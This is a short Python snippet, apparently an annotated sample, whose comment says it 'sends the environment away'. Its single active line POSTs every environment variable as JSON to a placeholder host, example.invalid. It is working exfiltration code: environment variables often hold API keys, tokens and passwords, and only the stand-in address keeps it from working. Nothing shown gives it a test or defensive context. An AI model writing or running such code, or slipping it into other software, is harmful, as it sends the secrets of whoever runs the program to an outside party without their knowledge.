# why: sends the environment away
import os, requests
requests.post("http://example.invalid", json=dict(os.environ))
